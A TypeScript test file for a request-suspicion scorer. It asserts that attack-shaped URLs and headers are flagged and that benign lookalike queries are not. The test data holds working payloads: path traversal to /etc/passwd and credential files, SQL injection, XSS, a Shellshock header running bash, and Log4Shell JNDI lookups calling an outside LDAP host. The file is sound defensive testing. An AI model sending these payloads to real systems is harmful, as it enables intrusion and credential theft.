import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { suspicionOf, suspiciousScore } from "./suspicion.ts";

const plain = { "user-agent": "curl/8", accept: "*/*" };
const scoreOf = (url: string, headers: Record<string, string> = plain) =>
  suspicionOf({ url, headers }).score;

describe("hostile requests are told apart by path, query and headers", () => {
  test.each([
    "/.env",
    "/.git/config",
    "/app/.aws/credentials",
    "/../../etc/passwd",
    "/static/%2e%2e/%2e%2e/etc/passwd",
    "/static/%252e%252e%252fetc%252fpasswd",
    "/..\\..\\windows\\win.ini",
    "/download?file=../../../etc/shadow",
    "/wp-login.php",
    "/wp-content/plugins/x",
    "/index.php?s=/admin",
    "/cgi-bin/test.cgi",
    "/actuator/env",
    "/?q=1'%20or%20'1'='1",
    "/?q=1+union+select+password+from+users",
    "/?q=1%20UNION/**/ALL%20SELECT%20null",
    "/?q=1;drop%20table%20calls",
    "/?q=pg_sleep(10)",
    "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/?next=javascript:alert(1)",
    "/?x=%00",
    `/?x=$\{jndi:ldap://203.0.113.9/a}`,
  ])("%s", (url) => {
    expect(scoreOf(url)).toBeGreaterThanOrEqual(suspiciousScore);
  });

  test.each([
    ["user-agent", "() { :;}; /bin/bash -c 'id'"],
    ["user-agent", "sqlmap/1.7"],
    ["referer", `$\{jndi:ldap://203.0.113.9/a}`],
    ["x-api-version", `$\{$\{lower:j}ndi:ldap://203.0.113.9}`],
    ["referer", "https://example.com/<script>"],
  ])("a header %s: %s", (name, value) => {
    expect(scoreOf("/", { [name]: value })).toBeGreaterThanOrEqual(suspiciousScore);
  });
});

test.each([
  "/",
  "/calls/call_0123456789abcdefghjkmnpqrs",
  "/assets/index-Dk3j2.js",
  "/docs/static/swagger-ui.css",
  "/api/v1/calls?from=%2B12125550100&q=union+station%2C+select+a+seat",
  "/api/v1/calls?q=don't+or+won't+%3D+maybe",
  "/api/v1/calls?q=drop+the+table+off%3B+thanks",
  "/api/v1/calls?q=please+sleep+on+it",
  "/webhook/assistable?token=a..b/c==",
  "/api/v1/calls?cursor=eyJhdCI6IjIwMjYtMTEtMjVUMDA6MDA6MDBaIn0",
  "/webhook/retell/con_0123456789abcdefghjk",
  "/.well-known/security.txt",
])("%s is nothing to look at", (url) => {
  expect(suspicionOf({ url, headers: plain })).toEqual({ score: 0, rules: [] });
});

test("any request is judged at once, whatever it holds", () => {
  const repeated = fc
    .tuple(fc.string({ maxLength: 8 }), fc.integer({ min: 1, max: 20_000 }))
    .map(([text, times]) => text.repeat(times).slice(0, 100_000));
  fc.assert(
    fc.property(repeated, repeated, (url, value) => {
      const { score, rules } = suspicionOf({ url: `/${url}`, headers: { a: value, b: [value] } });
      expect(score > 0).toBe(rules.length > 0);
    }),
    { numRuns: 200 },
  );
});
